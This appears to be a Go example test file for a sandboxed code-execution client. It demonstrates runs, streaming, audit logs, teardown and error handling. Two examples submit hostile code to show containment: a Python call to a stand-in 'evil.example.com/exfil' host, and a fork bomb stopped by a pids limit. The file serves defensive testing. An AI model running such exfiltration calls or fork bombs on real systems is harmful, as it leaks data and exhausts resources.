package enclave_test

import (
	"context"
	"errors"
	"fmt"
	"log"
	"os"
	"testing"

	"github.com/enclave-run/enclave"
	"github.com/enclave-run/enclave/internal/planetest"
)

// example is the client of the control plane that the examples run against: a
// real one in this process, but for the simulator, which models workloads.
var example *enclave.Client

func TestMain(m *testing.M) {
	os.Exit(func() int {
		dir, err := os.MkdirTemp("", "enclave-example")
		if err != nil {
			log.Fatal(err)
		}
		defer os.RemoveAll(dir)
		p, err := planetest.Open(dir, planetest.Config{})
		if err != nil {
			log.Fatal(err)
		}
		defer p.Close()
		example = &enclave.Client{BaseURL: p.URL, APIKey: p.Key}
		return m.Run()
	}())
}

func Example() {
	ctx := context.Background()
	c := example // &enclave.Client{APIKey: os.Getenv("ENCLAVE_API_KEY")}

	h, err := c.Run(ctx, enclave.SessionRequest{Code: `enclave.result({"answer": 42})`})
	if err != nil {
		log.Fatal(err)
	}
	r, err := h.Result(ctx) // waits for the end
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(string(r.JSON))
	// Output:
	// {"answer":42}
}

func ExampleClient_Run() {
	ctx := context.Background()
	c := example

	h, err := c.Run(ctx, enclave.SessionRequest{
		Code: `
import urllib.request
try:
    urllib.request.urlopen("http://evil.example.com/exfil")
except Exception:
    print("refused")
`,
		Limits:         enclave.Limits{WallSeconds: 30},
		Labels:         map[string]string{"order": "4711"},
		IdempotencyKey: "order-4711", // the same request makes no second session, not even after a restart
	})
	if err != nil {
		log.Fatal(err)
	}
	r, err := h.Result(ctx)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(r.Stdout)
	fmt.Println("exit status", *r.ExitCode)
	for _, d := range r.Denials {
		fmt.Println("denied", d.Host, d.Protocol, d.Reason)
	}
	// Output:
	// refused
	// exit status 0
	// denied evil.example.com dns not_allowed
}

func ExampleHandle_Stream() {
	ctx := context.Background()
	h, err := example.Run(ctx, enclave.SessionRequest{Code: `print("hello")`})
	if err != nil {
		log.Fatal(err)
	}
	for e, err := range h.Stream(ctx) {
		if err != nil {
			log.Fatal(err)
		}
		switch e.Kind {
		case enclave.StreamStdout:
			fmt.Printf("stdout %q\n", e.Output)
		case enclave.StreamAudit:
			fmt.Println("audit", e.Audit.Type)
		case enclave.StreamResult:
			fmt.Println("exit status", *e.Result.ExitCode)
		}
	}
	// Unordered output:
	// audit session_created
	// audit sandbox_started
	// stdout "hello\n"
	// audit result_collected
	// audit workload_exited
	// audit usage_metered
	// exit status 0
}

func ExampleClient_Audit() {
	ctx := context.Background()
	c := example
	h, err := c.Run(ctx, enclave.SessionRequest{Code: "import os\nwhile True:\n    os.fork()\n", Limits: enclave.Limits{PidsLimit: 64}})
	if err != nil {
		log.Fatal(err)
	}
	if _, err := h.Result(ctx); err != nil {
		log.Fatal(err)
	}
	record, err := c.Audit(ctx, h.ID())
	if err != nil {
		log.Fatal(err)
	}
	for _, e := range record {
		d, err := e.Detail()
		if err != nil {
			log.Fatal(err)
		}
		switch e.Type {
		case "limit_exceeded":
			fmt.Println(e.Seq, e.Type, d.Resource, d.Limit)
		case "workload_exited":
			fmt.Println(e.Seq, e.Type, d.KillReason)
		default:
			fmt.Println(e.Seq, e.Type)
		}
	}
	// Output:
	// 1 session_created
	// 2 sandbox_started
	// 3 limit_exceeded pidsLimit 64
	// 4 result_collected
	// 5 workload_exited pids_exceeded
	// 6 usage_metered
}

func ExampleHandle_Teardown() {
	ctx := context.Background()
	h, err := example.Run(ctx, enclave.SessionRequest{Code: "import time\ntime.sleep(3600)"})
	if err != nil {
		log.Fatal(err)
	}
	if err := h.Teardown(ctx); err != nil { // kills it: it runs
		log.Fatal(err)
	}
	s := h.Session()
	fmt.Println(s.Phase, s.Outcome, s.KillReason)
	// Output:
	// torn_down killed cancelled
}

func ExampleError() {
	ctx := context.Background()
	_, err := example.Run(ctx, enclave.SessionRequest{Code: "x", Limits: enclave.Limits{PidsLimit: -1}})
	if refused := (*enclave.Error)(nil); errors.As(err, &refused) {
		fmt.Println(refused.Status, refused.Code, refused.Field)
	}
	_, err = example.Get(ctx, "s-ffffff-1") // nobody's, or another organisation's
	fmt.Println(errors.Is(err, enclave.ErrNotFound))
	// Output:
	// 400 invalid_request limits.pidsLimit
	// true
}

func ExampleClient_List() {
	ctx := context.Background()
	for i := range 3 {
		_, err := example.Run(ctx, enclave.SessionRequest{Code: "pass", Labels: map[string]string{"n": fmt.Sprint(i)}})
		if err != nil {
			log.Fatal(err)
		}
	}
	o, left := enclave.ListOptions{Limit: 2}, 3 // pages of two, newest first
	for left > 0 {
		p, err := example.List(ctx, o)
		if err != nil {
			log.Fatal(err)
		}
		for _, s := range p.Items[:min(left, len(p.Items))] {
			fmt.Println(s.Labels)
			left--
		}
		o.Cursor = p.NextCursor // "" on the last page
	}
	// Output:
	// map[n:2]
	// map[n:1]
	// map[n:0]
}
